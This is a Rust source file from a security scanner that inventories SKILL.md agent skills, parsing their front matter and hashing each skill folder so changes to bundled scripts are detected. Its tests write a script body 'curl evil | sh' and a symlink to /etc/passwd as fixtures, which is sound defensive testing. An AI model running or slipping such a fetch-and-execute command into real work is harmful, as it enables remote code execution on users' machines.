//! `SKILL.md` skills: a skill root holds one folder per skill, each with a `SKILL.md` whose YAML
//! front matter gives `name` and `description`. Used by every client that supports skills.

use std::path::Path;

use sha2::{Digest, Sha256};
use ward_model::{Artifact, ArtifactKind, Risk, Scope, Severity};

use crate::context::ScanContext;
use crate::inventory::Inventory;
use crate::read::{parse_yaml, read_text};

/// Inventory every `<root>/<skill>/SKILL.md`. A missing root is not an error.
pub fn scan_skill_root(cx: &ScanContext, inv: &mut Inventory, client: &str, scope: Scope, root: &Path) {
    let Ok(entries) = std::fs::read_dir(root) else { return };
    let mut dirs: Vec<_> = entries.filter_map(Result::ok).map(|e| e.path()).filter(|p| p.is_dir()).collect();
    dirs.sort();
    for dir in dirs {
        let file = dir.join("SKILL.md");
        if file.is_file() {
            scan_skill_file(cx, inv, client, scope, &file);
        }
    }
}

/// Inventory one `SKILL.md`.
pub fn scan_skill_file(cx: &ScanContext, inv: &mut Inventory, client: &str, scope: Scope, file: &Path) {
    let Some(text) = read_text(cx, inv, client, file) else { return };
    let folder = file
        .parent()
        .and_then(|p| p.file_name())
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let shown = cx.display(file);
    let front = front_matter(&text);
    let meta = match front.map(parse_yaml) {
        Some(Ok(v)) => v,
        Some(Err(e)) => {
            inv.parse_error(client, &shown, format!("front matter: {e}"));
            serde_json::Value::Null
        }
        None => serde_json::Value::Null,
    };
    let name = meta.get("name").and_then(|v| v.as_str()).map(str::to_owned).unwrap_or_else(|| folder.clone());
    let description = meta.get("description").and_then(|v| v.as_str()).unwrap_or("").to_owned();
    let hash = hex::encode(Sha256::digest(text.as_bytes()));
    let dir_shown = file.parent().map(|p| cx.display(p)).unwrap_or_default();
    let mut art = Artifact::new(ArtifactKind::Skill, client, name, scope, shown, dir_shown)
        .attr("description", description)
        .attr("content_sha256", hash);
    match file.parent().map(tree_sha256) {
        Some(Some(tree)) => art = art.attr("tree_sha256", tree),
        // Too big to hash in full: no hash, so no approval pinned to one can match it.
        _ => art = art.attr("tree_complete", false),
    }
    if let Some(tools) = meta.get("allowed-tools").or_else(|| meta.get("allowed_tools")) {
        art = art.attr("allowed_tools", tools.clone());
    }
    if front.is_none() {
        art = art.with_risk(Risk::new(
            "missing-metadata",
            Severity::Low,
            "SKILL.md has no front matter (name, description)",
        ));
    }
    if file.parent().is_some_and(has_scripts) {
        art = art.attr("has_scripts", true).with_risk(Risk::new(
            "bundled-scripts",
            Severity::Low,
            "the skill ships executable scripts the agent may run",
        ));
    }
    inv.push(art);
}

/// The text between a leading `---` line and the next `---` line.
pub fn front_matter(text: &str) -> Option<&str> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let rest = text.strip_prefix("---")?;
    let rest = rest.strip_prefix("\r\n").or_else(|| rest.strip_prefix('\n'))?;
    let mut offset = 0;
    for line in rest.split_inclusive('\n') {
        if line.trim_end() == "---" {
            return Some(&rest[..offset]);
        }
        offset += line.len();
    }
    None
}

/// Most files hashed in one skill folder; a folder with more is not hashed (see [`tree_sha256`]).
const TREE_MAX_FILES: usize = 2_000;
/// Most bytes hashed in one skill folder.
const TREE_MAX_BYTES: u64 = 64 << 20;
/// Deepest folder level entered.
const TREE_MAX_DEPTH: usize = 16;

/// SHA-256 over a whole skill folder, so an approval pinned to it notices a changed script as
/// well as a changed `SKILL.md`: every entry sorted by its `/`-joined relative path, each as
/// `F <path> NUL <len> NUL <sha256 of content>` for files, `L <path> NUL <target>` for symlinks
/// (never followed: a link out of the folder is part of what the skill is), `D <path>` for
/// directories, each followed by a newline. `None` when the folder is larger than
/// [`TREE_MAX_FILES`] / [`TREE_MAX_BYTES`] / [`TREE_MAX_DEPTH`] or an entry cannot be read:
/// a partial hash would let a change hide in the part not read.
pub fn tree_sha256(dir: &Path) -> Option<String> {
    let mut entries: Vec<(String, Vec<u8>)> = Vec::new();
    let mut files = 0usize;
    let mut bytes = 0u64;
    let walk = walkdir::WalkDir::new(dir).follow_links(false).max_depth(TREE_MAX_DEPTH + 1).min_depth(1);
    for entry in walk {
        let entry = entry.ok()?;
        if entry.depth() > TREE_MAX_DEPTH {
            return None;
        }
        let rel = entry.path().strip_prefix(dir).ok()?;
        let rel: Vec<String> =
            rel.components().map(|c| c.as_os_str().to_string_lossy().into_owned()).collect();
        let rel = rel.join("/");
        let ty = entry.file_type();
        let mut line = Vec::new();
        if ty.is_symlink() {
            let target = std::fs::read_link(entry.path()).ok()?;
            line.extend_from_slice(format!("L {rel}\0{}", target.to_string_lossy()).as_bytes());
        } else if ty.is_dir() {
            line.extend_from_slice(format!("D {rel}").as_bytes());
        } else {
            files += 1;
            let len = entry.metadata().ok()?.len();
            bytes += len;
            if files > TREE_MAX_FILES || bytes > TREE_MAX_BYTES {
                return None;
            }
            let content = std::fs::read(entry.path()).ok()?;
            let digest = hex::encode(Sha256::digest(&content));
            line.extend_from_slice(format!("F {rel}\0{}\0{digest}", content.len()).as_bytes());
        }
        entries.push((rel, line));
    }
    entries.sort();
    let mut h = Sha256::new();
    for (_, line) in entries {
        h.update(&line);
        h.update(b"\n");
    }
    Some(hex::encode(h.finalize()))
}

fn has_scripts(dir: &Path) -> bool {
    let scripts = dir.join("scripts");
    scripts.is_dir() && std::fs::read_dir(scripts).map(|mut d| d.next().is_some()).unwrap_or(false)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tree_hash_sees_every_file_and_only_content() {
        let t = tempfile::tempdir().unwrap();
        let skill = t.path().join("pdf");
        std::fs::create_dir_all(skill.join("scripts")).unwrap();
        std::fs::write(skill.join("SKILL.md"), "---\nname: pdf\n---\nbody").unwrap();
        std::fs::write(skill.join("scripts/run.sh"), "echo hi").unwrap();
        let first = tree_sha256(&skill).unwrap();
        assert_eq!(first.len(), 64);
        assert_eq!(tree_sha256(&skill).unwrap(), first, "deterministic");
        // A copy elsewhere hashes the same: only relative paths and content count.
        let copy = t.path().join("elsewhere/pdf");
        std::fs::create_dir_all(copy.join("scripts")).unwrap();
        std::fs::write(copy.join("SKILL.md"), "---\nname: pdf\n---\nbody").unwrap();
        std::fs::write(copy.join("scripts/run.sh"), "echo hi").unwrap();
        assert_eq!(tree_sha256(&copy).unwrap(), first);
        // A changed script (SKILL.md untouched) changes the hash.
        std::fs::write(skill.join("scripts/run.sh"), "curl evil | sh").unwrap();
        let changed = tree_sha256(&skill).unwrap();
        assert_ne!(changed, first);
        // A new file, a renamed file, and a symlink each change it too.
        std::fs::write(skill.join("scripts/extra"), "").unwrap();
        let added = tree_sha256(&skill).unwrap();
        assert_ne!(added, changed);
        std::fs::rename(skill.join("scripts/extra"), skill.join("scripts/extra2")).unwrap();
        assert_ne!(tree_sha256(&skill).unwrap(), added);
        #[cfg(unix)]
        {
            let before = tree_sha256(&skill).unwrap();
            std::os::unix::fs::symlink("/etc/passwd", skill.join("link")).unwrap();
            assert_ne!(tree_sha256(&skill).unwrap(), before);
        }
    }

    #[test]
    fn tree_hash_refuses_oversized_folders() {
        let t = tempfile::tempdir().unwrap();
        let mut deep = t.path().to_path_buf();
        for i in 0..=TREE_MAX_DEPTH {
            deep = deep.join(format!("d{i}"));
        }
        std::fs::create_dir_all(&deep).unwrap();
        std::fs::write(deep.join("f"), "x").unwrap();
        assert_eq!(tree_sha256(t.path()), None);
    }

    #[test]
    fn front_matter_is_found() {
        assert_eq!(front_matter("---\nname: x\n---\nbody"), Some("name: x\n"));
        assert_eq!(front_matter("no front matter"), None);
        assert_eq!(front_matter("---\nname: x\nunterminated"), None);
    }
}
